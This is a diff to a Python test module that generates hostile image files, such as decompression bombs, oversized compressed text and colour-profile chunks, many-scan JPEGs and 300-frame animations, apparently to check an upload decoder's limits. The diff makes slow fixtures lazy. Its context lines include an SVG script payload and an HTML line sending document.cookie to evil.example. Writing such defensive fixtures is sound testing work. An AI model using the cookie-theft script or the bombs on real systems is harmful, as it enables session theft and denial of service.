@@ -6,7 +6,7 @@ import io
 import struct
 import zipfile
 import zlib
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 from PIL import Image
 from pillow_heif import register_heif_opener
@@ -18,6 +18,8 @@ SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(
 HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
 #: The longest side a header can claim in each format, and beyond what may be decoded.
 HUGE = 65_535
+#: The bytes of a file, or how to make them where that takes long: whoever only wants the names does not wait.
+Body = bytes | Callable[[], bytes]
 
 
 def encoded(picture: Image.Image, form: str, **options: object) -> bytes:
@@ -59,8 +61,8 @@ def zeros(length: int) -> bytes:
     return b"".join(pack.compress(bytes(1 << 20)) for _ in range(length >> 20)) + pack.flush()
 
 
-def corpus() -> Iterator[tuple[str, bytes, bool]]:
-    """(name, bytes, may a picture come out)."""
+def corpus() -> Iterator[tuple[str, Body, bool]]:
+    """(name, body, may a picture come out)."""
     yield from _no_pictures()
     yield from _liars()
     yield from _claims()
@@ -125,30 +127,15 @@ def _claims() -> Iterator[tuple[str, bytes, bool]]:
     yield "webp-lossless-16384.webp", b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body, False
 
 
-def _bombs() -> Iterator[tuple[str, bytes, bool]]:
+def _bombs() -> Iterator[tuple[str, Body, bool]]:
     """Few bytes that really are many points, or much text."""
-    wide = Image.new("L", (11_000, 11_000))
-    yield "jpeg-121-million.jpg", encoded(wide, "JPEG", quality=1), False
-    yield "png-121-million.png", encoded(wide, "PNG"), False
-    yield "png-1-bit-121-million.png", encoded(wide.convert("1"), "PNG"), False
-    yield "webp-121-million.webp", encoded(wide.convert("RGB"), "WEBP", quality=1, method=0), False
-    most = Image.new("RGB", (7_000, 7_000), "teal")
-    yield "jpeg-49-million.jpg", encoded(most, "JPEG"), True
-    yield "jpeg-49-million-in-steps.jpg", encoded(most, "JPEG", progressive=True, subsampling=0), True
-    yield "png-49-million.png", encoded(most.convert("RGBA"), "PNG"), True
-    yield "png-49-million-16-bit.png", encoded(Image.new("I;16", (7_000, 7_000), 40_000), "PNG"), True
+    yield from _many_points()
+    yield from _much_text()
+    yield "webp-of-300.webp", lambda: _film("WEBP"), True
+    yield "apng-of-300.png", lambda: _film("PNG"), True
     small = encoded(Image.new("RGB", (64, 64)), "JPEG", progressive=True)
     scan = small[small.rindex(b"\xff\xda") : -2]
     yield "jpeg-of-many-scans.jpg", small[:-2] + scan * 4000 + b"\xff\xd9", True
-    yield "png-text.png", png(9, 9, chunk(b"zTXt", b"a\0\0" + zeros(256 << 20)), data=zlib.compress(bytes(90))), False
-    many = chunk(b"zTXt", b"a\0\0" + zeros(1 << 20)) * 200
-    yield "png-text-many.png", png(9, 9, many, data=zlib.compress(bytes(90))), False
-    profile = chunk(b"iCCP", b"a\0\0" + zeros(256 << 20))
-    yield "png-profile.png", png(9, 9, profile, data=zlib.compress(bytes(90))), True
-    yield "png-points.png", png(9, 9, data=zeros(256 << 20)), True
-    frames = [Image.new("RGB", (200, 200), (n % 250, 0, 0)) for n in range(300)]
-    yield "webp-of-300.webp", encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:]), True
-    yield "apng-of-300.png", encoded(frames[0], "PNG", save_all=True, append_images=frames[1:]), True
     yield (
         "jpeg-profile-255.jpg",
         after_start(
@@ -156,6 +143,37 @@ def _bombs() -> Iterator[tuple[str, bytes, bool]]:
         ),
         True,
     )
+
+
+def _many_points() -> Iterator[tuple[str, Body, bool]]:
+    def wide(mode: str = "L") -> Image.Image:
+        return Image.new("L", (11_000, 11_000)).convert(mode)
+
+    def most(mode: str = "RGB") -> Image.Image:
+        return Image.new("RGB", (7_000, 7_000), "teal").convert(mode)
+
+    yield "jpeg-121-million.jpg", lambda: encoded(wide(), "JPEG", quality=1), False
+    yield "png-121-million.png", lambda: encoded(wide(), "PNG"), False
+    yield "png-1-bit-121-million.png", lambda: encoded(wide("1"), "PNG"), False
+    yield "webp-121-million.webp", lambda: encoded(wide("RGB"), "WEBP", quality=1, method=0), False
+    yield "jpeg-49-million.jpg", lambda: encoded(most(), "JPEG"), True
+    yield "jpeg-49-million-in-steps.jpg", lambda: encoded(most(), "JPEG", progressive=True, subsampling=0), True
+    yield "png-49-million.png", lambda: encoded(most("RGBA"), "PNG"), True
+    sixteen = ("I;16", (7_000, 7_000), 40_000)
+    yield "png-49-million-16-bit.png", lambda: encoded(Image.new(*sixteen), "PNG"), True
+
+
+def _much_text() -> Iterator[tuple[str, Body, bool]]:
+    dot = zlib.compress(bytes(90))
+    yield "png-text.png", lambda: png(9, 9, chunk(b"zTXt", b"a\0\0" + zeros(256 << 20)), data=dot), False
+    yield "png-text-many.png", png(9, 9, chunk(b"zTXt", b"a\0\0" + zeros(1 << 20)) * 200, data=dot), False
+    yield "png-profile.png", lambda: png(9, 9, chunk(b"iCCP", b"a\0\0" + zeros(256 << 20)), data=dot), True
+    yield "png-points.png", lambda: png(9, 9, data=zeros(256 << 20)), True
+
+
+def _film(form: str) -> bytes:
+    frames = [Image.new("RGB", (200, 200), (n % 250, 0, 0)) for n in range(300)]
+    return encoded(frames[0], form, save_all=True, append_images=frames[1:])
 
 
 def _torsos() -> Iterator[tuple[str, bytes, bool]]:
